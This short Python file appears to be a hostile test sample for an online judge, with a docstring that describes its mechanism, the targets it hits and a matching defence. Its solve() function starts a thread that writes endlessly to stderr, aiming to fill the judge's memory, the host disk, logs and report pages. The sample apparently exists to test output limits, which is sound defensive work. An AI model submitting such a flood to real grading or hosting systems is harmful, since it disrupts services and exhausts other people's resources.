"""Prints without end to stderr.

Mechanism: a thread writes as fast as the kernel allows, past the interpreter's streams.
Surface: the judge's memory, the container's log on the host's disk, the report, the database, the page.
Gain: a full disk, or a page that no browser opens.
Challenge: twice
Like: flood_stdout
Defence: output_limit
"""

import os
import threading


def pour():
    while True:
        os.write(2, b"hostile " * (1 << 15))


def solve(x, out, n):
    threading.Thread(target=pour).start()
    threading.Event().wait(20)
